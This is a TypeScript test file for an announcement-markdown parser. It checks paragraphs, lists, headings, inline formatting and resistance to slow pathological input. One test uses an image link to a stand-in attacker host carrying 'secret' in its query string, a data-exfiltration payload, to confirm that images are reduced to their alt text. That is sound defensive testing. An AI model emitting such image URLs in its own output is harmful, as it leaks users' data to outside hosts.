import { blocksOf } from './announcement-markdown';

const paragraph = (text: string) => ({ kind: 'paragraph', lines: [[{ kind: 'text', text }]] });
const piecesOf = (line: string) => {
  const [block] = blocksOf(line);
  return block?.kind === 'paragraph' ? block.lines[0] : undefined;
};

test('blank lines part paragraphs, single ones only lines', () => {
  expect(blocksOf('One\ntwo\r\n\r\n\nThree')).toEqual([
    { kind: 'paragraph', lines: [[{ kind: 'text', text: 'One' }], [{ kind: 'text', text: 'two' }]] },
    paragraph('Three'),
  ]);
});

test('lists of both kinds and headings are blocks of their own', () => {
  const item = (text: string) => [{ kind: 'text', text }];
  expect(blocksOf('## What changes\n- one\n* two\n1. first\n2) second\nafter')).toEqual([
    { kind: 'heading', parts: item('What changes') },
    { kind: 'list', ordered: false, items: [item('one'), item('two')] },
    { kind: 'list', ordered: true, items: [item('first'), item('second')] },
    paragraph('after'),
  ]);
});

test('strong, emphasis, code and links are found within a line, one within the other', () => {
  expect(piecesOf('a **b _c_** `d*e*` [f](https://example.com)')).toEqual([
    { kind: 'text', text: 'a ' },
    {
      kind: 'strong',
      parts: [
        { kind: 'text', text: 'b ' },
        { kind: 'emphasis', parts: [{ kind: 'text', text: 'c' }] },
      ],
    },
    { kind: 'text', text: ' ' },
    { kind: 'code', text: 'd*e*' },
    { kind: 'text', text: ' ' },
    { kind: 'link', text: 'f', uri: 'https://example.com' },
  ]);
});

test.each(['2 * 3 * 4', 'snake_case_name', '<b>bold</b>', '**', '[a](b c)', '[a]', '`'])(
  '%j is the text that it is',
  (text) => expect(piecesOf(text)).toEqual([{ kind: 'text', text }]),
);

test('a picture is only its words', () => {
  expect(piecesOf('![a cat](https://evil.example/?d=secret)')).toEqual([{ kind: 'text', text: 'a cat' }]);
});

test('nothing at all has no blocks', () => {
  expect(blocksOf(' \n\t\n')).toEqual([]);
});

test.each(['*', '_', '`', '[', '![', '**a ', '[a](', '_a *b ', '- ', '# ', '1. ', '**_`[', '[a](b'])(
  'a hundred thousand characters of %j are read in a moment',
  (sign) => {
    const begun = performance.now();
    blocksOf(sign.repeat(Math.ceil(100_000 / sign.length)));
    blocksOf(`${sign}\n`.repeat(Math.ceil(100_000 / (sign.length + 1))));
    expect(performance.now() - begun).toBeLessThan(1500);
  },
);
